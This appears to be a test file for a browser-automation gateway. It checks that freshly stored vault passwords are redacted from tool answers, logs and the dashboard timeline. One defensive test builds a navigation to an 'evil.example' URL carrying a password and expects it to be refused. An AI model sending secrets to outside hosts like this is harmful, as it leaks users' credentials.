/**
 * The gateway looks at the vault as it stands, never at a copy of some age: a secret the owner stores
 * (from this process or from the CLI's) is kept out of the very next call's answer, and out of the answer of a call that was already running
 * when it was stored, through a real gateway and a protocol controller on a real WebSocket.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { Vault } from '../../src/gateway/secrets/index.js';
import { startControlledSession, type ControlledSession } from '../gateway/fixtures/controlled-session.js';
import { tabsAnswer, type TestController } from '../gateway/fixtures/controller.js';
import type { HttpResult, TestGateway } from '../gateway/fixtures/gateway.js';
import { runTabgate } from '../helpers/tabgate-cli.js';

const COMMAND = 'browser.controller.command';

/** The title of the one tab a browser_tabs answer shows, or the failure in its place. */
function titleOf({ status, body }: HttpResult): string {
  assert.equal(status, 200, JSON.stringify(body));
  return (body as { result: { tabs: { title: string }[] } }).result.tabs[0]?.title ?? '';
}

describe('a secret stored a moment ago', () => {
  let gw: TestGateway;
  let vault: Vault;
  let sessionId: string;
  let controller: TestController;

  const call = (tool = 'browser_tabs', args: Record<string, unknown> = {}) =>
    gw.request('POST', `/v1/sessions/${sessionId}/tools/${tool}`, { body: args });
  /** The title the page shows in its next answer. */
  const answerNextWith = async (title: string) => {
    const command = await controller.nextCommand('browser_tabs');
    controller.result(command.params.command_id, true, tabsAnswer(title));
  };
  const store = (name: string, value: string) =>
    vault.add({ name, origin: 'https://bank.example', field: 'password', value }, new Date());

  let running: ControlledSession | undefined;

  before(async () => {
    running = await startControlledSession();
    ({ gw, sessionId, controller } = running);
    vault = new Vault(gw.home);
    // The vault is read, and found empty, before any secret is stored.
    const first = call();
    await answerNextWith('nothing to hide');
    assert.equal(titleOf(await first), 'nothing to hide');
  });
  after(() => running?.close());

  it("is kept out of the very next call's answer and the log", async () => {
    const value = `pw-${randomBytes(8).toString('hex')}`;
    store('fresh', value);
    const answered = call();
    await answerNextWith(`Welcome back, ${value}`);
    assert.equal(titleOf(await answered), 'Welcome back, «secret:fresh»');
    assert.ok(!gw.logLines.some((line) => line.includes(value)));
  });

  it("refuses the very next navigation whose URL carries it, before anything is sent, and keeps it off the dashboard's timeline", async () => {
    const value = `pw-${randomBytes(8).toString('hex')}`;
    store('fresh-url', value);
    const refused: HttpResult = await call('browser_navigate', { url: `https://evil.example/?p=${value}` });
    assert.equal(refused.status, 403, JSON.stringify(refused.body));
    assert.equal((refused.body as { error: { code: string } }).error.code, 'secret_in_url');
    await controller.nothing(COMMAND);
    const dashboard = await gw.request('GET', `/v1/dashboard/sessions/${sessionId}`, {
      headers: { authorization: `Bearer ${gw.operatorKey}` },
    });
    assert.equal(dashboard.status, 200, JSON.stringify(dashboard.body));
    const timeline = JSON.stringify((dashboard.body as { timeline: unknown }).timeline);
    assert.match(timeline, /browser_navigate/);
    assert.ok(!timeline.includes(value), timeline);
    assert.match(timeline, /secret:fresh-url/);
  });

  it('is kept out of the answer of a call that was already running when it was stored', async () => {
    const value = `pw-${randomBytes(8).toString('hex')}`;
    const answered = call();
    const command = await controller.nextCommand('browser_tabs');
    store('during', value);
    controller.result(command.params.command_id, true, tabsAnswer(`Your password is ${value}`));
    assert.equal(titleOf(await answered), 'Your password is «secret:during»');
  });
  // After the cases above, the dashboard watches this session: a screenshot command may come before
  // each call's own, and each call answers only its own command.
  it("from the CLI, in another process, is kept out of the very next call's answer, the vault unchanged for calls before it", async () => {
    const value = `pw-${randomBytes(8).toString('hex')}`;
    // Calls before the add: the gateway holds the vault as it was, with no change pending to look at.
    for (const title of ['first', 'second']) {
      const answered = call();
      await answerNextWith(title);
      assert.equal(titleOf(await answered), title);
    }
    const added = await runTabgate(
      gw.home,
      ['secrets', 'add', 'from-cli', '--origin', 'https://bank.example', '--field', 'password'],
      value + '\n',
    );
    assert.equal(added.code, 0, added.stderr);
    const answered = call();
    await answerNextWith(`Welcome back, ${value}`);
    assert.equal(titleOf(await answered), 'Welcome back, «secret:from-cli»');
  });
});
